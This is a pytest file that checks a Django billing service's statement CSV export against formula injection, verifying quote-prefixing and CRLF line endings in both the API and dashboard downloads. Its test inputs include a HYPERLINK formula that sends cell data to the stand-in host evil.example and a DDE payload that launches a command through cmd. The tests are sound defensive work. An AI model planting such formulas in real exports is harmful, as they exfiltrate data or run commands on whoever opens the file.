"""The statement CSV is written as the usage CSV is (tests/billing/test_usage_csv_injection.py): a cell that starts like
a formula gets a leading ``'`` (OWASP "CSV Injection") and lines end in CRLF, so a CR inside a name stays in its cell.
The API's download and the dashboard's are the same writer (``billing.statements.statement_csv``)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from billing import statements
from billing.ledger import grant_credits
from inference.models import Endpoint
from tests import lifecycle

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("unhashed_static_files", "priced_without_broker")]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def no_formula_starts(rows: list[list[str]]) -> None:
    for row in rows:
        assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))], row
        assert not [cell for cell in row if cell.startswith("-") and not cell.lstrip("-").isdigit()], row


def test_a_name_that_starts_like_a_formula_is_written_as_text() -> None:
    statement = {
        "opening_balance_micros": 1_000_000,
        "closing_balance_micros": -350,
        "movements": {"usage_micros": -1_000_350, "grants_micros": 0},
        "usage": [
            {"endpoint": name, "attempts": 1, "gpu_ms": 10, "cost_micros": 5, "debited_micros": 5}
            for name in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "ci\r=1+1", "a/b")
        ],
    }
    text = statements.statement_csv(statement)
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")  # every line ends in CRLF
    rows = rows_of(text)
    no_formula_starts(rows)
    usage = [row[1] for row in rows if row[0] == "usage"]
    assert usage == [
        f"'{FORMULA}", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\t=1+1", "'\r=1+1", "ci\r=1+1", "a/b"
    ]  # fmt: skip
    # Amounts are numbers, a negative one included, never prefixed.
    assert ["balance", "closing", "", "", "-350", ""] in rows
    assert ["movement", "usage", "", "", "-1000350", ""] in rows


def test_the_api_and_dashboard_downloads_write_no_formula(tenant: dict[str, Any], builtin_endpoint: Endpoint) -> None:
    """An endpoint whose owner an operator typed like a formula (the registry row is not a form), used this month."""
    planted = Endpoint.objects.get(pk=builtin_endpoint.pk)
    planted.pk = None
    planted.owner = FORMULA[:64]
    planted.save()
    grant_credits(organization=tenant["organization"], amount_micros=50_000_000, reason="csv test")
    lifecycle.run_as(tenant, planted, gpu_ms=1_000)
    month = f"{timezone.now():%Y-%m}"
    browser = Client()
    browser.force_login(tenant["user"])
    for response in (
        tenant["client"].get(f"/v1/billing/statements/{month}", {"format": "csv"}),
        browser.get(f"/dashboard/billing/statements/{month}", {"format": "csv"}),
    ):
        assert response.status_code == 200
        text = response.content.decode()
        assert text.endswith("\r\n")
        rows = rows_of(text)
        no_formula_starts(rows)
        [usage] = [row for row in rows if row[0] == "usage"]
        assert usage[1] == f"'{planted.endpoint_id}"
        assert usage[2:4] == ["1", "1000"]
    # The JSON statement is data, not a spreadsheet: the name as it is.
    answer = tenant["client"].get(f"/v1/billing/statements/{month}").json()
    assert [row["endpoint"] for row in answer["usage"]] == [planted.endpoint_id]
